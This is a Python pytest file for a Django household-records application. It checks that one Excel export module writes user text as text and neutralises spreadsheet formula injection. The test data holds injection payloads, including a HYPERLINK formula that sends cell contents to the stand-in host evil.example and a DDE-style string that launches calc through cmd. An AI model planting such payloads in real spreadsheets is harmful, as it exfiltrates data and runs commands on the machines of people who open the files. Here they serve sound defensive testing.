"""The one Excel writer (issue 7, finding 3): user text is written as text, never as a
formula, and no other module of the application uses openpyxl to write files."""

import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from openpyxl import load_workbook

from households.models import Household
from tannkhai.xlsx import Column, XlsxExport

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def sheet_of(response):
    return load_workbook(io.BytesIO(response.content)).active


def test_writer_neutralises_formula_like_text():
    export = XlsxExport(sheet_title="T", columns=[Column("A")])
    for value in EVIL:
        export.append([value])
    export.append(["Nguyễn Văn Ân"])
    export.append([42])
    response = export.response(filename="x")
    sheet = sheet_of(response)
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    for cell, value in zip(cells, EVIL, strict=False):
        assert cell.data_type == "s"
        assert cell.value.startswith("'")
        if "\r" not in value:
            assert cell.value == "'" + value
        assert cell.quotePrefix
    assert cells[len(EVIL)].value == "Nguyễn Văn Ân"
    assert cells[len(EVIL) + 1].value == 42
    assert response["Cache-Control"] == "no-store, private"


def test_writer_drops_characters_xml_cannot_carry():
    export = XlsxExport(sheet_title="T", columns=[Column("A")])
    export.append(["Lê\x01 Thị\x0b Hoa"])
    assert sheet_of(export.response(filename="x"))["A2"].value == "Lê Thị Hoa"


def test_household_export_writes_a_formula_address_as_text(hh_kp1, officer, client_for):
    Household.objects.filter(pk=hh_kp1.pk).update(address=EVIL[0])
    response = client_for(officer).get("/ho-gia-dinh/xuat-excel/")
    sheet = sheet_of(response)
    formulas = [
        cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert formulas == []
    addresses = [row[6] for row in sheet.iter_rows(min_row=5, values_only=True)]
    assert "'" + EVIL[0] in addresses
    assert "no-store" in response["Cache-Control"]


APP_DIRS = ["tannkhai", "households", "targets", "funding", "assignments", "reports", "bench"]
WRITER = Path("tannkhai/xlsx.py")
OPENPYXL_USE = re.compile(r"^\s*(from openpyxl|import openpyxl)|\bWorkbook\(", re.MULTILINE)


def test_every_excel_file_is_written_by_the_one_writer():
    root = Path(settings.BASE_DIR)
    offenders = []
    for app in APP_DIRS:
        for path in (root / app).rglob("*.py"):
            relative = path.relative_to(root)
            if relative == WRITER or "migrations" in relative.parts:
                continue
            if OPENPYXL_USE.search(path.read_text(encoding="utf-8")):
                offenders.append(str(relative))
    assert offenders == [], (
        f"Write Excel files through tannkhai.xlsx.XlsxExport (it neutralises formulas): {offenders}"
    )


@pytest.mark.parametrize("value", ["Nguyễn", "0912 345 678", "KP1-001", "a=b"])
def test_ordinary_text_is_unchanged(value):
    export = XlsxExport(sheet_title="T", columns=[Column("A")])
    export.append([value])
    assert sheet_of(export.response(filename="x"))["A2"].value == value
